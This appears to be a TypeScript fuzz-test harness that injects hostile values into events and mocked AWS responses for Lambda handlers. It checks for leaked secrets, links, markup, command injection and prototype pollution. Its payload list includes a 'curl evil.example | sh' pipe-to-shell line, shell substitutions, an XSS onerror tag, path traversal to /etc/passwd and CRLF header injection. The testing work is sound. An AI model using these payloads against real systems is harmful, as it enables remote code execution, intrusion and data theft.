import { join } from 'node:path';
import * as fc from 'fast-check';
import { CALM } from '../handlers/calm';
import { environmentOf } from '../handlers/support/lambda-env';
import { target } from './bench/target';

/** What runs handlers as Lambda does, in this process. It isn't bundled, because it loads bundles. */
interface Runtime {
  compile(bundle: string): (environment: object) => unknown;
  handle(handler: unknown, event: unknown, remainingMillis: number): Promise<{ result?: unknown; error?: string }>;
  hurry(): void;
}

/** Where something hostile is put: into the event, or into a JSON answer or object of AWS, at some of its values. */
interface Change {
  readonly into: 'the event' | 'AWS';
  /** The number of a place, or the key of the first one. */
  readonly at: number | string;
  readonly how: 'put' | 'append' | 'remove' | 'define';
  readonly value: unknown;
}

interface Attack {
  readonly handler: string;
  readonly changes: readonly Change[];
}

const LINK = 'https://evil.example/';
const SECRETS = ['lambda-secret', 'pipeline-secret', 'assumed-secret', 'lambda-token', 'assumed-token'];
/** Texts that programs take for more than text. */
const HOSTILE = [
  `[Approve](${LINK})`,
  `<${LINK}|Approve>`,
  `<a href="${LINK}">Approve</a>`,
  '<!channel>',
  '<img src=x onerror=alert(1)>',
  `${LINK}approve`,
  'www.evil.example',
  "'; curl evil.example | sh; '",
  '$(touch /tmp/evil)',
  '`touch /tmp/evil`',
  '"; touch /tmp/evil; "',
  '\u202eevil',
  '\u2066evil\u2069',
  '\u001b[2J',
  'a\r\nBcc: evil@evil.example',
  '\0',
  '\ud800',
  '__proto__',
  'constructor',
  '../../../etc/passwd',
  's3://evil/../x',
  'arn:aws:sagemaker:eu-west-1:111111111111:model-package/x/1;evil',
];
const long = fc.integer({ min: 1, max: 256 * 1024 }).map((length) => 'x'.repeat(length));
const deep = fc.integer({ min: 1, max: 1000 }).map((depth) => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`));
const many = fc.integer({ min: 1, max: 20_000 }).map((length) => Array.from({ length }, (_, i) => i));
const value = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom<unknown>(...HOSTILE) },
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  fc.constantFrom<unknown>(null, true, -1, 0, 1e308, 2 ** 53, '', [], {}, '1e999', '2026-13-45T99:99:99Z'),
  fc.string({ unit: 'binary', maxLength: 200 }),
  long,
  deep,
  many,
);
const change = fc.record<Change>({
  into: fc.constantFrom('the event', 'AWS'),
  at: fc.nat(400),
  how: fc.constantFrom('put', 'append', 'remove', 'define'),
  value,
});

const SCENARIOS = Object.entries(CALM).flatMap(([handler, scenarios]) =>
  Object.keys(scenarios).map((what) => `${handler}: ${what}`),
);
const RUNTIME = join(process.cwd(), 'test/handlers/support/function.cjs');
const loaded = new Map<string, (environment: object) => unknown>();

export const handlerEvents = target<Attack>({
  cases: fc.record({
    handler: fc.constantFrom(...SCENARIOS),
    changes: fc.array(change, { minLength: 1, maxLength: 4 }),
  }),
  calm: { handler: 'notify: a handler has a notice', changes: [] },
  known: [
    ...SCENARIOS.map((handler) => ({ handler, changes: [] })),
    // the call beside was left alone, and ended the process when it failed
    {
      handler: 'make-release: a model is approved',
      changes: [{ into: 'AWS', at: 'S3Uri', how: 'put', value: 'www.evil.example' }],
    },
    // the error said all that AWS did
    {
      handler: 'expire-logs: a day has passed',
      changes: [{ into: 'AWS', at: 'message', how: 'append', value: 'x'.repeat(100_000) }],
    },
  ],
  async run({ handler: name, changes }) {
    const [handler, what] = name.split(': ');
    const calm = await CALM[handler][what]();
    const { cloud } = calm;
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const runtime = require(RUNTIME) as Runtime;
    let load = loaded.get(handler);
    if (load === undefined) {
      if (loaded.size === 0) runtime.hurry();
      load = runtime.compile(join(process.cwd(), 'dist/handlers', handler, 'index.js'));
      loaded.set(handler, load);
    }
    const logged: string[] = [];
    const environment = { ...process.env };
    const release = hear(logged);
    try {
      // AWS keeps the form of its own answers
      cloud.disturb((body, operation) => changed(body, changes, 'AWS', operation.startsWith('S3.') ? 'any' : 'texts'));
      const run = load(environmentOf(handler, cloud.endpoint, { ...calm.environment }));
      const event = JSON.parse(changed(JSON.stringify(calm.event), changes, 'the event'));
      const { error } = await runtime.handle(run, event, 30_000);
      const messages = cloud.calls('SNS.Publish').map(({ body }) => new URLSearchParams(body.toString()));
      return [
        ...judgeError(error ?? calm.failure?.()),
        ...judgeLog(logged),
        ...messages.flatMap(judgeMessage),
        ...pollution(),
      ];
    } finally {
      release();
      process.env = environment;
      await cloud.stop();
    }
  },
});

/** Keeps what is written to the log, until it is told to stop. */
function hear(logged: string[]): () => void {
  const ends = [process.stdout, process.stderr].map((stream) => {
    const write = stream.write.bind(stream);
    stream.write = (text: string | Uint8Array) => logged.push(Buffer.from(text).toString()) > 0;
    return () => void (stream.write = write);
  });
  return () => ends.forEach((end) => end());
}

/** JSON with hostile values in the place of some. Other texts stay. */
function changed(text: string, changes: readonly Change[], into: Change['into'], what = 'any'): string {
  const mine = changes.filter((each) => each.into === into);
  if (mine.length === 0) return text;
  let root: unknown;
  try {
    root = JSON.parse(text);
  } catch {
    return text;
  }
  for (const each of mine) apply(root, each, what === 'texts');
  return JSON.stringify(root);
}

function apply(root: unknown, { at, how, value: hostile }: Change, onlyTexts: boolean): void {
  const all = placesIn(root);
  const places = onlyTexts ? all.filter(([around, key]) => typeof around[key] === 'string') : all;
  const place = typeof at === 'number' ? places[at % places.length] : places.find(([, key]) => key === at);
  if (place === undefined) return;
  const [around, key] = place;
  const old = around[key];
  if (onlyTexts) around[key] = how === 'append' ? `${old as string}${String(hostile)}` : String(hostile);
  else if (how === 'remove') delete around[key];
  else if (how === 'append' && typeof old === 'string') around[key] = `${old}${String(hostile)}`;
  else if (how === 'define')
    Object.defineProperty(around, '__proto__', {
      value: hostile,
      enumerable: true,
      configurable: true,
      writable: true,
    });
  else around[key] = hostile;
}

function placesIn(value_: unknown): [Record<string, unknown>, string][] {
  if (value_ === null || typeof value_ !== 'object') return [];
  const around = value_ as Record<string, unknown>;
  return Object.keys(around).flatMap((key) => [
    [around, key] as [Record<string, unknown>, string],
    ...placesIn(around[key]),
  ]);
}

const LONGEST = 5000;

function judgeError(error: string | undefined): string[] {
  if (error === undefined) return [];
  return [
    ...(error.length > LONGEST ? [`said ${error.length} characters: ${error.slice(0, 300)}`] : []),
    ...(/^(Type|Range|Reference|Syntax)Error\b|Cannot read propert|is not (a function|iterable)/.test(error)
      ? [`fell: ${error.slice(0, 300)}`]
      : []),
  ];
}

function judgeLog(logged: readonly string[]): string[] {
  const text = logged.join('');
  return SECRETS.filter((secret) => text.includes(secret)).map((secret) => `logged ${secret}`);
}

/** Nothing of a sender becomes a link, a mention or markup, and nothing in a command is more than a word. */
function judgeMessage(form: URLSearchParams): string[] {
  const [subject, text] = [form.get('Subject') ?? '', form.get('Message') ?? ''];
  const wrong = [
    ...(/^[\x20-\x7e]{1,99}$/.test(subject) ? [] : ['the subject is no line of ASCII']),
    ...(/[^\P{C}\n]/u.test(text) ? ['the message has characters that nobody sees'] : []),
    ...(text.includes(LINK) || /www\.evil/.test(text) ? ['the message has a link of the sender'] : []),
    ...(/<!|<a |<img|\]\(|<http/.test(text) ? ['the message has markup of the sender'] : []),
    ...text
      .split('\n')
      .filter((line) => /^ *(aws|token=|config=|model=) /.test(line) || /^ *(aws |token=)/.test(line))
      .filter(runsMore)
      .map((line) => `a command does more: ${line}`),
  ];
  return wrong.map((each) => `${each}: ${subject} ${text.slice(0, 600)}`);
}

/** Whether what the sender wrote is outside of quotes in a command. */
function runsMore(command: string): boolean {
  const outside = command.replace(/\\./g, '').replace(/'[^']*'/g, '');
  return /touch|curl/.test(outside) || /[^\\](\$\(touch|`)/.test(outside);
}

function pollution(): string[] {
  return Object.keys(Object.prototype).length > 0 ? ['Object.prototype was changed'] : [];
}
